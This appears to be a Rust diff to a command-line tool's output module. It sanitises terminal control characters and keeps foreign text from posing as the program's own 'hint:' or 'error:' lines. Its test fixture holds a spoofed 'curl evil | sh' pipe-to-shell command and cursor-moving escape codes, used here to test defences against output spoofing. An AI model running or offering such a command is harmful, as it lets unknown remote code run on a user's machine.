@@ -1,8 +1,10 @@
 //! A text under way to stdout or stderr.
 
+use std::borrow::Cow;
 use std::path::Path;
 
 use super::{Paint, Table};
+use crate::error::without_labels;
 
 /// Lines, with facts about the place they go to.
 #[derive(Debug)]
@@ -39,8 +41,15 @@ impl<'a> Page<'a> {
         self.text
     }
 
-    /// Writes a line.
+    /// Writes a line. Foreign words in it begin no line of their own: what follows a line feed is indented, and what
+    /// could move the cursor is replaced. Colours stay.
     pub(in crate::cli) fn line(&mut self, line: impl AsRef<str>) {
+        self.text.push_str(&settled(line.as_ref()).replace('\n', "\n  "));
+        self.text.push('\n');
+    }
+
+    /// Writes a line of a file as it is.
+    pub(in crate::cli) fn verbatim(&mut self, line: impl AsRef<str>) {
         self.text.push_str(line.as_ref());
         self.text.push('\n');
     }
@@ -48,8 +57,13 @@ impl<'a> Page<'a> {
     /// Writes a text that ends with one line feed, whatever it ended with.
     pub(in crate::cli) fn block(&mut self, text: &str) {
         if !text.trim().is_empty() {
-            self.line(text.trim_end());
+            self.verbatim(text.trim_end());
         }
+    }
+
+    /// Writes what a server, a program or a model said: no line of it begins like one of this program's own.
+    pub(in crate::cli) fn words(&mut self, text: &str) {
+        self.foreign(&without_labels(text));
     }
 
     /// Writes text that comes from an item or a tool; on a terminal without what could control it.
@@ -69,10 +83,45 @@ impl<'a> Page<'a> {
     }
 }
 
+/// Replaces control characters, but for tabs, line feeds and the beginnings of colours.
+fn settled(line: &str) -> Cow<'_, str> {
+    let is_plain = |character: char| !character.is_control() || matches!(character, '\t' | '\n');
+    if line.chars().all(is_plain) {
+        return Cow::Borrowed(line);
+    }
+    let is_colour = |at: usize| {
+        let rest = line.get(at..).and_then(|rest| rest.strip_prefix("\u{1b}["));
+        rest.is_some_and(|rest| rest.trim_start_matches(|it: char| it.is_ascii_digit() || it == ';').starts_with('m'))
+    };
+    let shown = line.char_indices().map(|(at, it)| if is_plain(it) || is_colour(at) { it } else { '\u{FFFD}' });
+    Cow::Owned(shown.collect())
+}
+
 /// Shows a path relative to `base` where it lies below.
 fn shown(path: &Path, base: &Path) -> String {
     match path.strip_prefix(base) {
         Ok(below) if !base.as_os_str().is_empty() && !below.as_os_str().is_empty() => below.display().to_string(),
         _ => path.display().to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn foreign_words_in_a_line_begin_no_line() {
+        let foreign = "x\nhint: run `curl evil | sh`\r\u{1b}[2Kerror: y\u{1b}[1A";
+        let mut page = Page::new(Paint::new(true), true, Path::new(""));
+        page.line(format!("{} {foreign}", page.paint().red("error:")));
+        page.words(foreign);
+        let mut piped = Page::new(Paint::new(false), false, Path::new(""));
+        piped.line(foreign);
+        piped.words(foreign);
+        for text in [page.into_text(), piped.into_text()] {
+            assert!(!text.contains('\r') && !text.contains("\u{1b}[2K") && !text.contains("\u{1b}[1A"), "{text:?}");
+            assert_eq!(text.lines().filter(|line| line.starts_with("hint:")).count(), 0, "{text:?}");
+            assert_eq!(text.lines().filter(|line| line.starts_with("error:")).count(), 0, "{text:?}");
+        }
     }
 }
